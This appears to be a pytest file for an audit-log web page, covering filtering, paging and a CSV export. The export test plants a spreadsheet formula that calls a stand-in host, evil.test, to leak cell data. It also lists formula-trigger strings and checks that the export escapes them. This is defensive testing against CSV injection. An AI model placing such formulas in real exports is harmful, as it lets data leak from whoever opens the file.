"""Settings → Audit: the table, its filter, and the file for a spreadsheet."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from datetime import timedelta

import pytest

from ownkey import audit, clock
from ownkey.access import Action
from ownkey.node import Node
from ownkey.web.pages.audit import neutral
from tests.web.conftest import Acme, Browser

pytestmark = pytest.mark.anyio

PATH = "/settings/audit"


async def test_what_is_recorded_is_shown(client_for: Callable[[str], Browser]) -> None:
    """A change and a refused attempt stand in the table, with who, what and how it ended."""
    await client_for("user").get("/settings/billing")
    await client_for("admin").send("/settings/workspace", {"name": "Renamed"})
    page = await client_for("owner").page(PATH)
    assert "Admin Name" in page.text
    assert "workspace.update name: Renamed" in page.text
    assert "billing.read /settings/billing" in page.text
    assert "Refused" in page.text


async def test_filter(client_for: Callable[[str], Browser]) -> None:
    """Filtered by an action, only its entries are left; an unknown one is 400, one without entries says so."""
    browser = client_for("owner")
    table = (await browser.page(f"{PATH}?action=password.change")).html.split("<tbody>")[1]
    assert "password.change" in table
    assert "session.sign_in" not in table
    assert "Nothing was recorded" in (await browser.page(f"{PATH}?action=vault.rotate")).text
    for query in (
        "action=nothing",
        "result=both",
        "from=yesterday",
        "to=2026-02-30",
        "to=9999-12-31",
        "from=٢٠٢٦-11-01",
        "before=x",
        "before=-1",
        "before=" + "9" * 30,
    ):
        for path in (PATH, f"{PATH}.csv"):
            if path == PATH or not query.startswith("before"):
                assert (await browser.get(f"{path}?{query}")).status_code == 400, (path, query)


async def test_filters_together(client_for: Callable[[str], Browser], node: Node, acme: Acme) -> None:
    """By who, result and days; they hold on older pages and in the file, too. Everybody there is can be chosen."""
    await client_for("user").get("/settings/billing")
    for name in ("One", "Two"):
        await client_for("admin").send("/settings/workspace", {"name": name})
    browser, today = client_for("owner"), clock.now().date()
    user, admin = acme.people["user"].id, acme.people["admin"].id

    async def rows(query: str) -> list[dict[str, str]]:
        text = (await browser.get(f"{PATH}.csv?{query}")).text
        return list(csv.DictReader(io.StringIO(text, newline="")))

    page = await browser.page(PATH)
    for label in ("Everybody", "User Name", "Admin Name", "Owner Name"):
        assert label in page.text
    assert {row["actor_id"] for row in await rows(f"who={admin}")} == {admin}
    assert [row["action"] for row in await rows(f"who={user}&result=refused")] == ["billing.read"]
    assert len(await rows(f"who={admin}&action=workspace.update&result=done&from={today}&to={today}")) == 2
    assert await rows(f"who={admin}&to={today - timedelta(days=1)}") == []
    assert await rows(f"from={today + timedelta(days=1)}") == []
    assert await rows(f"who={acme.people['outsider'].id}") == []
    for number in range(60):
        async with node.db.transaction() as tx:
            await audit.record(tx, acme.actor("admin"), Action.WORKSPACE_UPDATE, f"wsp_{number}")
    older = next(link for link in (await browser.page(f"{PATH}?who={admin}&result=done")).links if "before=" in link)
    assert f"who={admin}" in older
    assert "result=done" in older
    assert "User Name</td>" not in (await browser.page(older)).html


async def test_older_entries(client_for: Callable[[str], Browser], node: Node, acme: Acme) -> None:
    """Past fifty entries a link leads to the older ones; together the pages have them all, none twice."""
    for number in range(60):
        async with node.db.transaction() as tx:
            await audit.record(tx, acme.actor("admin"), Action.WORKSPACE_UPDATE, f"wsp_target_{number:02}")
    browser, path, seen = client_for("owner"), f"{PATH}?action=workspace.update", list[int]()
    while path:
        page = await browser.page(path)
        seen += [number for number in range(60) if f"wsp_target_{number:02}" in page.html]
        path = next((link for link in page.links if "before=" in link), "")
    assert sorted(seen) == list(range(60))


async def test_export(client_for: Callable[[str], Browser], node: Node, acme: Acme) -> None:
    """The file holds every entry (of the filter), in UTC, and no cell that a spreadsheet would run."""
    formula = '=HYPERLINK("https://evil.test?"&A1)'
    for _ in range(600):
        async with node.db.transaction() as tx:
            await audit.record(
                tx, acme.actor("admin"), Action.WORKSPACE_UPDATE, formula, detail={"+name": "line\r\nbreak"}
            )
    browser = client_for("admin")
    reply = await browser.get(f"{PATH}.csv?action=workspace.update")
    assert reply.headers["content-type"] == "text/csv; charset=utf-8"
    assert reply.headers["content-disposition"].startswith('attachment; filename="audit-acme-')
    rows = list(csv.DictReader(io.StringIO(reply.text, newline="")))
    assert len(rows) == 600
    assert len({row["id"] for row in rows}) == 600
    assert rows[0]["target"] == f"'{formula}"
    assert rows[0]["detail"] == "'+name: line\r\nbreak"
    assert rows[0]["time"].endswith("Z")
    assert rows[0]["result"] == "allowed"
    everything = list(csv.reader(io.StringIO((await browser.get(f"{PATH}.csv")).text, newline="")))
    assert len(everything) > 601


@pytest.mark.parametrize(
    "cell", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1", "\uff1d1+1", "\uff20SUM"]
)
def test_formulas_are_text(cell: str) -> None:
    """What a spreadsheet would take for a formula gets an apostrophe before it."""
    assert neutral(cell) == f"'{cell}"


def test_other_cells_stay() -> None:
    """Everything else is left as it is."""
    assert [neutral(cell) for cell in ("plain", 17, "", "a=b", "x-y")] == ["plain", "17", "", "a=b", "x-y"]
